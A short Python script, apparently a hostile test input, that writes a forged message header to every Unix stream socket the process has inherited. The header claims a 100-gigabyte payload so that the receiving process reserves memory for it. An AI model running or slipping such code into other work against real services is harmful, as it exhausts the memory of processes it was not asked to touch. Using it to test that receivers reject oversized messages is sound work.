"""The head of a part that says it has a hundred gigabytes, so that room is made for them."""

import os
import socket

for number in map(int, os.listdir("/proc/self/fd")):
    try:
        connection = socket.socket(fileno=os.dup(number))
        if connection.family == socket.AF_UNIX and connection.type == socket.SOCK_STREAM:
            connection.sendall(bytes([2]) + (100 << 30).to_bytes(8))
    except OSError:
        pass
